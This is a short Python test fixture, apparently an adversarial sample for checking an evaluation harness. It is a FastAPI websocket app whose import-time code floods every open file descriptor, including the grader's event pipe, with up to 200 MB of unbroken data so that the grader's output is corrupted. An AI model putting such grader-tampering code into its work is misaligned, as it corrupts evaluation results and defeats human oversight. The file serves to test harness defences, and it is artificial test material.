# attack: at import, writes up to 200 MB without a newline (1 MB chunks, at most 3 s in all) to every descriptor 3..64, event pipe included
# honest: fail
# ruff: noqa
import os
import time

from fastapi import FastAPI, WebSocket, WebSocketDisconnect

chunk = b"x" * (1 << 20)
deadline = time.monotonic() + 3
for fd in range(3, 65):
    try:
        os.set_blocking(fd, False)
    except OSError:
        continue
    sent = 0
    while sent < 200 * (1 << 20) and time.monotonic() < deadline:
        try:
            sent += os.write(fd, chunk)
        except BlockingIOError:
            time.sleep(0.001)
        except OSError:
            break
    try:
        os.set_blocking(fd, True)  # so the grader's own next line lands right after the flood
    except OSError:
        pass


app = FastAPI()


@app.websocket("/ws")
async def ws(websocket: WebSocket):
    await websocket.accept()
    try:
        while True:
            await websocket.receive_text()
            await websocket.send_text("ok")
    except WebSocketDisconnect:
        pass
